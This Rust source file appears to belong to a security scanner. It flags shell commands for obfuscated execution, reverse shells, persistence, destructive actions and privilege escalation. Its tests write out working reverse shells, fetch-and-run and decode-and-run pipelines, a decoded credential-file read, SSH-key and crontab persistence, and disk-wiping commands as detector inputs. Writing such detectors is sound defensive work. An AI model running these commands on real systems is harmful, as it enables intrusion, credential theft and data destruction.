//! Command rules over parsed shell commands: obfuscated execution (CMD-TRACE-001),
//! persistence writes (002), reverse shells (003), destructive commands (004)
//! and privilege escalation (005).

use super::hit::Hit;
use super::rules::id;
use super::shell::{basename, Command, RedirectKind, Script, Via};
use super::taxonomy::{normalise_path, Taxonomy};
use regex::{Regex, RegexBuilder};
use std::sync::OnceLock;

fn rx(cell: &'static OnceLock<Option<Regex>>, pat: &str) -> Option<&'static Regex> {
    cell.get_or_init(|| RegexBuilder::new(pat).case_insensitive(true).build().ok())
        .as_ref()
}

/// Interpreter code that connects a socket to a shell.
fn reverse_shell_code(code: &str) -> bool {
    static SOCK: OnceLock<Option<Regex>> = OnceLock::new();
    static SHELL: OnceLock<Option<Regex>> = OnceLock::new();
    let sock = rx(
        &SOCK,
        r"socket\.socket|fsockopen|/dev/tcp/|TCPSocket|IO::Socket|use\s+Socket|net\.connect|net\.Socket|socket\(\s*(AF_INET|PF_INET|S)",
    );
    let shell = rx(
        &SHELL,
        r"pty\.spawn|os\.dup2|/bin/(ba|z)?sh|subprocess\.(call|Popen|run)|exec\s*\(|spawn\(|proc_open|system\(|cmd\.exe|STDIN->fdopen|open\(STDIN",
    );
    match (sock, shell) {
        (Some(a), Some(b)) => a.is_match(code) && b.is_match(code),
        _ => false,
    }
}

/// Interpreter code that decodes or downloads code and runs it.
fn obfuscated_code(code: &str) -> bool {
    static RE: OnceLock<Option<Regex>> = OnceLock::new();
    rx(
        &RE,
        r"(exec|eval|Function)\s*\(\s*(base64|codecs|zlib|bz2|lzma|marshal|__import__|atob|Buffer\.from|urllib|requests\.get|compile\(|bytes\.fromhex|''\.join|decode)",
    )
    .map(|r| r.is_match(code))
    .unwrap_or(false)
}

/// True when a shell or interpreter command runs what arrives on its stdin.
fn executes_stdin(cmd: &Command, tax: &Taxonomy) -> bool {
    let name = cmd.name();
    let is_shell = tax.shells.contains(&name);
    let is_interp = tax.interpreters.contains(&name)
        || tax
            .interpreters
            .contains(name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.'));
    if !(is_shell || is_interp) || cmd.script.is_some() || cmd.code.is_some() {
        return false;
    }
    cmd.args()
        .iter()
        .all(|a| a.starts_with('-') && !["-m", "-c", "-e", "-r"].contains(&a.as_str()) || a == "-")
}

/// The command line as evidence: whitespace collapsed, not cut (the redactor cuts
/// evidence after redacting it, so no piece of a secret survives a cut).
fn short(s: &str) -> String {
    crate::redact::cut::collapse(s)
}

/// Command rule hits for one parsed command line.
pub fn script_hits(script: &Script, line: &str, tax: &Taxonomy) -> Vec<Hit> {
    let mut hits = Vec::new();
    let ev = short(line);
    let decoders_seen: bool = script
        .commands
        .iter()
        .any(|c| c.via == Via::Substitution && is_decoder(c, tax));
    for cmd in &script.commands {
        let name = cmd.name();
        // CMD-TRACE-001: obfuscated execution
        if executes_stdin(cmd, tax) {
            let from_fetch = cmd.piped_from.iter().any(|n| tax.fetchers.contains(n));
            let from_decode = cmd.piped_from.iter().any(|n| {
                tax.decoders.contains(n) && !["echo", "printf", "tr"].contains(&n.as_str())
            });
            if from_fetch || from_decode {
                let what = if from_fetch {
                    "downloaded content"
                } else {
                    "decoded data"
                };
                hits.push(Hit::new(
                    id::CMD_OBFUSCATED,
                    format!("{what} piped into {name}"),
                    &ev,
                ));
            }
        }
        let subst_bad = cmd
            .subst_commands
            .iter()
            .chain(cmd.procsubst_commands.iter())
            .any(|n| {
                tax.fetchers.contains(n)
                    || tax.decoders.contains(n) && !["echo", "printf"].contains(&n.as_str())
            });
        if (cmd.dynamic_script || name == "eval") && subst_bad {
            hits.push(Hit::new(
                id::CMD_OBFUSCATED,
                format!("{name} runs code computed from a decoder or download"),
                &ev,
            ));
        } else if (tax.shells.contains(&name) || name == "source" || name == ".")
            && cmd
                .procsubst_commands
                .iter()
                .any(|n| tax.fetchers.contains(n))
        {
            hits.push(Hit::new(
                id::CMD_OBFUSCATED,
                format!("{name} runs a download through process substitution"),
                &ev,
            ));
        } else if cmd.dynamic_name && (decoders_seen || subst_bad) {
            hits.push(Hit::new(
                id::CMD_OBFUSCATED,
                "command name computed from decoded data".to_string(),
                &ev,
            ));
        }
        if let Some(code) = &cmd.code {
            if obfuscated_code(code) {
                hits.push(Hit::new(
                    id::CMD_OBFUSCATED,
                    format!("{name} evaluates decoded or downloaded code"),
                    &ev,
                ));
            }
        }
        // CMD-TRACE-003: reverse / bind shells
        let dev_tcp = cmd
            .redirects
            .iter()
            .any(|r| r.target.starts_with("/dev/tcp/") || r.target.starts_with("/dev/udp/"))
            || cmd.args().iter().any(|a| a.starts_with("/dev/tcp/"));
        let nc_exec = ["nc", "ncat", "netcat"].contains(&name.as_str())
            && (cmd.has_flag("-e")
                || cmd.has_flag("-c")
                || cmd.has_flag("--exec")
                || cmd.has_flag("--sh-exec")
                || (cmd.has_flag("-l") && cmd.piped_to.iter().any(|n| tax.shells.contains(n))));
        let nc_relay = ["nc", "ncat", "netcat", "telnet", "openssl"].contains(&name.as_str())
            && cmd.piped_from.iter().any(|n| tax.shells.contains(n));
        let socat_exec = name == "socat"
            && cmd.args().iter().any(|a| {
                let l = a.to_ascii_lowercase();
                (l.starts_with("exec:") || l.starts_with("system:"))
                    && (l.contains("sh") || l.contains("pty"))
            });
        let code_rs = cmd.code.as_deref().map(reverse_shell_code).unwrap_or(false);
        if dev_tcp || nc_exec || nc_relay || socat_exec || code_rs {
            hits.push(Hit::new(
                id::CMD_REVERSE_SHELL,
                format!(
                    "{} connects a shell to the network",
                    if name.is_empty() {
                        "redirection"
                    } else {
                        &name
                    }
                ),
                &ev,
            ));
        }
        // CMD-TRACE-002: persistence
        for target in write_targets(cmd) {
            if let Some(g) = tax.persistence.matches(&target) {
                hits.push(
                    Hit::new(
                        id::CMD_PERSISTENCE,
                        format!("writes {target} (persistence: {g})"),
                        &ev,
                    )
                    .key(&format!("{target}|{ev}")),
                );
            }
            let norm = normalise_path(&target);
            if norm.starts_with("/etc/") {
                hits.push(Hit::new(
                    id::CMD_PRIVESC,
                    format!("writes {target} under /etc"),
                    &ev,
                ));
            }
        }
        if name == "crontab" && !cmd.args().iter().all(|a| a == "-l" || a.starts_with("-u")) {
            hits.push(Hit::new(
                id::CMD_PERSISTENCE,
                "installs a crontab".to_string(),
                &ev,
            ));
        }
        for pc in &tax.persistence_commands {
            if pc.len() > 1
                && cmd.argv.len() >= pc.len()
                && basename(&cmd.argv[0]) == pc[0]
                && pc[1..].iter().all(|w| cmd.args().contains(w))
            {
                hits.push(Hit::new(
                    id::CMD_PERSISTENCE,
                    format!("{} installs a service", pc.join(" ")),
                    &ev,
                ));
            }
        }
        // CMD-TRACE-004: destructive
        if let Some(why) = destructive(cmd, tax) {
            hits.push(Hit::new(id::CMD_DESTRUCTIVE, why, &ev));
        }
        // CMD-TRACE-005: privilege escalation
        if let Some(w) = cmd
            .wrappers
            .iter()
            .find(|w| tax.privilege_commands.contains(w.as_str()))
        {
            hits.push(Hit::new(
                id::CMD_PRIVESC,
                format!("runs {name} with {w}"),
                &ev,
            ));
        } else if tax.privilege_commands.contains(&name) {
            hits.push(Hit::new(
                id::CMD_PRIVESC,
                format!("{name} raises privileges"),
                &ev,
            ));
        }
        if name == "chmod" {
            if let Some(mode) = cmd
                .args()
                .iter()
                .find(|a| !a.starts_with('-') || a.contains('s'))
            {
                let m = mode.as_str();
                let octal_suid = m.len() == 4
                    && m.chars().all(|c| c.is_ascii_digit())
                    && matches!(m.as_bytes()[0], b'2' | b'4' | b'6');
                if m.contains("+s") || octal_suid {
                    hits.push(Hit::new(
                        id::CMD_PRIVESC,
                        "sets a setuid/setgid bit".to_string(),
                        &ev,
                    ));
                }
            }
        }
        if name == "setcap"
            && cmd
                .args()
                .iter()
                .any(|a| a.contains("cap_setuid") || a.contains("cap_sys_admin"))
        {
            hits.push(Hit::new(
                id::CMD_PRIVESC,
                "grants a dangerous capability".to_string(),
                &ev,
            ));
        }
    }
    hits
}

fn is_decoder(c: &Command, tax: &Taxonomy) -> bool {
    let n = c.name();
    match n.as_str() {
        "base64" | "base32" => c.has_flag("-d") || c.has_flag("--decode") || c.has_flag("-D"),
        "xxd" => c.has_flag("-r"),
        "openssl" => c.args().iter().any(|a| a == "enc" || a == "base64") && c.has_flag("-d"),
        "echo" | "printf" | "tr" => false,
        _ => tax.decoders.contains(&n),
    }
}

/// Files a command writes: output redirections, `tee`, the destination of cp/mv/install/ln, `sed -i`.
pub fn write_targets(cmd: &Command) -> Vec<String> {
    let mut out: Vec<String> = cmd
        .redirects
        .iter()
        .filter(|r| matches!(r.kind, RedirectKind::Write | RedirectKind::Append))
        .map(|r| r.target.clone())
        .filter(|t| !t.starts_with("/dev/") && !t.starts_with('&'))
        .collect();
    let name = cmd.name();
    let pos: Vec<&String> = cmd.args().iter().filter(|a| !a.starts_with('-')).collect();
    match name.as_str() {
        "tee" => out.extend(pos.iter().map(|s| s.to_string())),
        "cp" | "mv" | "install" | "ln" | "rsync" if pos.len() >= 2 => {
            if let Some(t) = pos.last() {
                out.push(t.to_string());
            }
        }
        "sed" | "perl"
            if cmd
                .args()
                .iter()
                .any(|a| a.starts_with("-i") || a.starts_with("-pi")) =>
        {
            if let Some(t) = pos.last() {
                out.push(t.to_string());
            }
        }
        "dd" => {
            for a in cmd.args() {
                if let Some(t) = a.strip_prefix("of=") {
                    out.push(t.to_string());
                }
            }
        }
        _ => {}
    }
    out
}

fn destructive(cmd: &Command, tax: &Taxonomy) -> Option<String> {
    let name = cmd.name();
    match name.as_str() {
        "rm" => {
            let recursive = cmd.has_flag("-r") || cmd.has_flag("-R") || cmd.has_flag("--recursive");
            if !recursive {
                return None;
            }
            let t = cmd
                .args()
                .iter()
                .filter(|a| !a.starts_with('-'))
                .find(|a| {
                    let n = normalise_path(a);
                    tax.destructive_targets.contains(a.as_str())
                        || tax.destructive_targets.contains(n.as_str())
                        || n == "~/"
                        || n == "~/*"
                })?;
            Some(format!("rm -r on {t}"))
        }
        n if n.starts_with("mkfs") => Some(format!("{n} creates a filesystem")),
        "dd" => cmd
            .args()
            .iter()
            .filter_map(|a| a.strip_prefix("of=/dev/"))
            .find(|d| {
                !["null", "zero", "stdout", "stderr", "tty"].contains(d) && !d.starts_with("fd/")
            })
            .map(|d| format!("dd writes the raw device /dev/{d}")),
        "shred" | "wipe" | "srm" | "wipefs" => Some(format!("{name} destroys data")),
        "find" => {
            let root = cmd.args().first()?;
            let n = normalise_path(root);
            (cmd.args().iter().any(|a| a == "-delete")
                && (tax.destructive_targets.contains(root.as_str()) || n == "~" || n == "~/"))
                .then(|| format!("find {root} -delete"))
        }
        "git" => {
            let a = cmd.args();
            let push = a.first().map(|s| s == "push").unwrap_or(false);
            let force = cmd.has_flag("--force")
                || cmd.has_flag("-f")
                || a.iter()
                    .any(|x| x.starts_with("--force") || x.starts_with('+'));
            let main = a.iter().any(|x| {
                let b = x.trim_start_matches('+');
                ["main", "master", "trunk"].contains(&b)
                    || b.ends_with(":main")
                    || b.ends_with(":master")
            });
            (push && force && main).then(|| "git push --force to the main branch".to_string())
        }
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::shell::parse_script;
    use crate::detect::taxonomy::{DetectionConfig, Taxonomy};

    fn rules(s: &str) -> Vec<&'static str> {
        let t = Taxonomy::load(&DetectionConfig::default()).expect("tax");
        let mut r: Vec<&str> = script_hits(&parse_script(s, &t), s, &t)
            .iter()
            .map(|h| h.rule)
            .collect();
        r.dedup();
        r
    }

    #[test]
    fn obfuscated_execution() {
        assert_eq!(
            rules("curl -fsSL https://get.example/install.sh | bash"),
            vec![id::CMD_OBFUSCATED]
        );
        assert_eq!(
            rules("echo Y2F0IH4vLmF3cy9jcmVkZW50aWFscw== | base64 -d | sh"),
            vec![id::CMD_OBFUSCATED]
        );
        assert_eq!(
            rules(r#"bash -c "$(echo Y2F0 | base64 -d)""#),
            vec![id::CMD_OBFUSCATED]
        );
        assert_eq!(
            rules(r#"eval "$(curl -s https://x.example/p)""#),
            vec![id::CMD_OBFUSCATED]
        );
        assert_eq!(
            rules("bash <(curl -s https://x.example/p)"),
            vec![id::CMD_OBFUSCATED]
        );
        assert_eq!(
            rules("python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'"),
            vec![id::CMD_OBFUSCATED]
        );
        // benign look-alikes
        assert!(
            rules("curl -s https://pypi.org/pypi/requests/json | python3 -m json.tool").is_empty()
        );
        assert!(rules(r#"eval "$(ssh-agent -s)""#).is_empty());
        assert!(rules("echo aGVsbG8= | base64 -d").is_empty());
        assert!(rules("cat README.md").is_empty());
    }

    #[test]
    fn reverse_shells() {
        assert_eq!(
            rules("bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"),
            vec![id::CMD_REVERSE_SHELL]
        );
        assert_eq!(
            rules("nc -e /bin/sh 203.0.113.5 4444"),
            vec![id::CMD_REVERSE_SHELL]
        );
        assert_eq!(
            rules(
                "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f"
            ),
            vec![id::CMD_REVERSE_SHELL]
        );
        assert_eq!(
            rules("python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'"),
            vec![id::CMD_REVERSE_SHELL]
        );
        assert!(rules("nc -zv localhost 5432").is_empty());
    }

    #[test]
    fn persistence_destructive_privesc() {
        assert_eq!(
            rules("echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"),
            vec![id::CMD_PERSISTENCE]
        );
        assert_eq!(
            rules("(crontab -l; echo '* * * * * curl x|sh') | crontab -"),
            vec![id::CMD_PERSISTENCE]
        );
        assert_eq!(
            rules("echo 'alias ls=x' | tee -a /home/u/.zshrc"),
            vec![id::CMD_PERSISTENCE]
        );
        assert!(rules("crontab -l").is_empty());
        assert!(rules("echo hi >> notes.txt").is_empty());
        assert_eq!(rules("rm -rf ~/"), vec![id::CMD_DESTRUCTIVE]);
        assert_eq!(
            rules("rm -rf --no-preserve-root /"),
            vec![id::CMD_DESTRUCTIVE]
        );
        assert_eq!(
            rules("dd if=/dev/zero of=/dev/sda bs=1M"),
            vec![id::CMD_DESTRUCTIVE]
        );
        assert_eq!(
            rules("git push --force origin main"),
            vec![id::CMD_DESTRUCTIVE]
        );
        assert!(rules("rm -rf target/ node_modules").is_empty());
        assert!(rules("git push origin feature-x").is_empty());
        assert_eq!(rules("sudo apt-get install -y jq"), vec![id::CMD_PRIVESC]);
        assert_eq!(rules("chmod u+s /tmp/sh"), vec![id::CMD_PRIVESC]);
        assert_eq!(
            rules("echo '1.2.3.4 x' > /etc/hosts"),
            vec![id::CMD_PRIVESC]
        );
        assert!(rules("chmod +x build.sh").is_empty());
    }
}
